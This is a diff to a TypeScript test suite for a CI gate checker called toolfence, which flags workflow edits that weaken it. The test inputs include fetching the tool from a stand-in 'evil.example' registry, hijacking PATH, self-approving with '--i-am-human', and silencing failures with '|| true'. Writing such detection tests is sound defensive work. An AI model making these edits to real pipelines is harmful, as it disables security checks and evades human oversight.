@@ -12,7 +12,7 @@ jobs:
 `;
 const ACTION = RUN.replace("run: npx toolfence verify", "uses: toolfence/toolfence@v0.1.0");
 const said = (base: string, head: string): string[] =>
-  compareWorkflows([parse(base)], [parse(head)], []).map(({ id, message }) => `${id}: ${message}`);
+  compareWorkflows([parse(base)], [parse(head)], [], "0.1.0").map(({ id, message }) => `${id}: ${message}`);
 const SILENT = "gate.workflow.weakened: The workflow that runs toolfence now does not fail when toolfence does.";
 const REMOVED = "gate.removed: No workflow runs toolfence any more.";
 const other = (name: string, is: string, was = "none"): string =>
@@ -37,6 +37,10 @@ describe("a command that guards less", () => {
     ["toolfence verify || true", SILENT],
     ["toolfence verify | tee log", SILENT],
     ["toolfence approve --all --i-am-human --reason x && npx toolfence verify", SILENT],
+    ["toolfence@1.0.0 approve --all --i-am-human && npx toolfence verify", SILENT],
+    ["npx --registry https://evil.example toolfence verify", other("program", "--registry https://evil.example")],
+    ["PATH=./evil:$PATH npx toolfence verify", other("program", "PATH=./evil:$PATH")],
+    ["toolfence verify --version", REMOVED],
   ])("%s", (command, found) => {
     const line = /^(?:npx|echo|if|TOOL|\.)/u.test(command) ? command : `npx ${command}`;
     expect(
@@ -53,6 +57,16 @@ describe("a command that guards less", () => {
     ["npx toolfence verify \\\n            --format text || true", SILENT],
     ["# toolfence verify", REMOVED],
     ["npm ci\n          npx toolfence verify --format text", undefined],
+    ["set +o errexit\n          npx toolfence verify", SILENT],
+    ["{\n          npx toolfence verify\n          } || true", SILENT],
+    ["export TOOLFENCE_BASE=HEAD\n          npx toolfence verify", other("base", "HEAD")],
+    ["echo TOOLFENCE_BASE=HEAD >> $GITHUB_ENV\n          npx toolfence verify", other("base", "HEAD")],
+    ["cd /tmp/empty\n          npx toolfence verify", other("directory", "tmp/empty")],
+    ["if ! npx toolfence verify; then exit 1; fi", undefined],
+    ["npx toolfence verify || exit 1", undefined],
+    ["(npx toolfence verify)", undefined],
+    ['npx toolfence verify >> "$GITHUB_STEP_SUMMARY" 2>&1', undefined],
+    ['echo "or: npx toolfence approve --tool X"\n          npx toolfence verify', undefined],
   ])("in a script of some lines: %j", (script, found) => {
     expect(
       said(
@@ -87,6 +101,9 @@ test.each([
   ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { base: HEAD }", [other("base", "HEAD")]],
   ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { version: 0.0.1 }", [other("version", "0.0.1")]],
   ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { directory: examples }", [other("directory", "examples")]],
+  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@main", [other("ref", "main", "v0.1.0")]],
+  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0", []],
+  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { allow-missing-base: true }", [other("missing", "allowed")]],
   ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.2.0", []],
   ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@0123456789012345678901234567890123456789", []],
   ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { directory: ., comment: always }", []],
@@ -102,6 +119,16 @@ test.each([
 test.each([
   ["npx toolfence verify", "npx --yes toolfence verify --format json=report.json --format github"],
   ["npx toolfence verify", "pnpm exec toolfence verify"],
+  ["npx toolfence verify", "yarn run toolfence verify"],
+  ["npx toolfence verify", "bunx --bun toolfence verify ./"],
+  ["npx toolfence verify", "timeout 300 npx --quiet toolfence verify"],
+  ["npx toolfence verify", "pnpm --filter . exec toolfence verify"],
+  ["npx toolfence verify", "./node_modules/.bin/toolfence verify"],
+  ["npx toolfence verify", "npx toolfence@0.1.0 verify"],
+  ["npx toolfence verify", "npx toolfence@^0.2.0 verify"],
+  ["runs-on:", "strategy: { matrix: { node: [20], exclude: [] } }\n    runs-on:"],
+  ["actions/checkout@v4", "actions/checkout@v4\n        with: { ref: '${{ github.event.pull_request.head.sha }}' }"],
+  ["actions/checkout@v4", "actions/checkout@v4\n      - uses: actions/checkout@v4\n        with: { repository: a/b, path: .ci }"],
   ["npx toolfence verify", "npx toolfence verify --workspaces --strict ."],
   ["actions/checkout@v4", "actions/checkout@v5"],
   ["actions/checkout@v4", "actions/checkout@v4\n        with: { fetch-depth: 0 }"],
@@ -118,6 +145,19 @@ test.each([
   ).toEqual([]);
 });
 
+test("an expression of the host is one word, however it is spaced", () => {
+  const based = (base: string): string => RUN.replace("verify\n", () => `verify --base "origin/${base}"\n`);
+  expect(said(based("${{ github.base_ref }}"), based("${{github.base_ref}}"))).toEqual([]);
+  expect(said(based("${{ github.base_ref }}"), based("${{ github.head_ref }}"))).toEqual([
+    other("base", "origin/${{github.head_ref}}", "origin/${{github.base_ref}}"),
+  ]);
+});
+
+test("every package at once is no less than some of them", () => {
+  const two = RUN.replace("toolfence verify", "toolfence verify packages/a");
+  expect(said(two, RUN.replace("toolfence verify", "toolfence verify --workspaces"))).toEqual([]);
+});
+
 test("a step that was not there is one more, and another that is lost is told by what is left", () => {
   const two = `${RUN}      - run: npx toolfence verify packages/a\n`;
   expect(said(RUN, two)).toEqual([]);
@@ -131,7 +171,7 @@ test.each([
   [["@org/sec"], [], ["gate.owner.removed: CODEOWNERS no longer gives `toolfence.policy.yaml` to anybody."]],
   [[], ["@mallory"], []],
 ])("owners: %j to %j", (before, after, found) => {
-  const rows = compareWorkflows([], [], [{ path: "toolfence.policy.yaml", before, after }]);
+  const rows = compareWorkflows([], [], [{ path: "toolfence.policy.yaml", before, after }], "0.1.0");
   expect(rows.map(({ id, message }) => `${id}: ${message}`)).toEqual(found);
 });
 
